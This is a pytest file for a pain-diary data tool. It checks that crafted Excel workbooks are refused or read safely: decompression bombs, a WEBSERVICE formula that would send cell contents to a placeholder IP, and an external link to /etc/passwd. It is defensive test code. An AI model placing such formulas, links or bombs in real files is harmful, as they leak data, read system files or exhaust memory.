"""Workbooks that unpack to more than there is, name other files or hold formulas: refused or read as text, in no time."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest

from painstats.plan.study import read_study
from painstats.store import open_store
from tests.reading_inboxes import read_inbox
from tests.sources.made_up_workbooks import xlsx

HEAD, DAYS = ["date", "pain"], [[f"2026-01-{day:02d}", day % 7] for day in range(1, 21)]
PLAN = """
[study]
time_zone = "Europe/London"
[[diaries]]
file = "diary-2.csv"
filled = "evening"
items = [{ item = "pain", column = "pain", scale = [0, 10], higher_is = "worse", recall = "today" }]
"""


def changed(workbook: bytes, file: str, original: bytes, new: bytes) -> bytes:
    """Replace text in a file of a workbook."""
    packed = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(workbook)) as old,
        zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as made,
    ):
        for name in old.namelist():
            content = old.read(name)
            assert name != file or original in content
            made.writestr(name, content.replace(original, new) if name == file else content)
    return packed.getvalue()


SHEET, END = "xl/worksheets/sheet1.xml", b"</sheetData>"
USUAL = xlsx({"Sheet1": [HEAD, *DAYS]})
BOMBS = {
    "far_corner": changed(USUAL, SHEET, END, b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>' + END),
    "much_text": changed(
        USUAL, SHEET, END, b'<row r="22"><c t="inlineStr"><is><t>' + b"A" * (80 << 20) + b"</t></is></c></row>" + END
    ),
}


@pytest.mark.parametrize("bomb", BOMBS)
def test_a_workbook_larger_than_memory_is_refused_and_the_other_files_are_read(tmp_path, bomb):
    """The first would end a run without a word: the library that reads it aborts the process."""
    assert len(BOMBS[bomb]) < 1_000_000
    outcomes = read_inbox(study_with(tmp_path, BOMBS[bomb]))
    assert {name: outcome.status for name, outcome in outcomes.items()} == {
        "anna/diary-2.csv": "loaded", "anna/diary.xlsx": "refused",
    }  # fmt: skip
    assert "unpacks to more cells than a diary has" in outcomes["anna/diary.xlsx"].message


def test_formulas_and_links_to_other_files_are_read_as_what_they_showed(tmp_path):
    """A formula counts by the value that was saved with it; nothing is computed, opened or fetched."""
    formula = b'<c r="B2"><f>WEBSERVICE("http://192.0.2.1/"&amp;A2)+[1]Sheet1!A1</f><v>9</v></c>'
    workbook = changed(USUAL, SHEET, b'<c r="B2"><v>1</v></c>', formula)
    linked = (
        b'<Relationship Id="rId98" Type="http://x/externalLink" Target="file:///etc/passwd" TargetMode="External"/>'
    )
    workbook = changed(workbook, "xl/_rels/workbook.xml.rels", b"</Relationships>", linked + b"</Relationships>")
    folder = study_with(tmp_path, workbook)
    read_inbox(folder)
    with open_store(read_study(folder)) as store:
        query = "SELECT value FROM self_report WHERE date < DATE '2026-01-03' ORDER BY date"
        assert store.connection.execute(query).fetchall() == [(9,), (2,)]


def study_with(folder: Path, workbook: bytes) -> Path:
    (folder / "inbox" / "anna").mkdir(parents=True)
    (folder / "inbox" / "anna" / "diary.xlsx").write_bytes(workbook)
    (folder / "inbox" / "anna" / "diary-2.csv").write_text("date,pain\n2026-02-01,4\n")
    (folder / "study.toml").write_text(PLAN)
    return folder
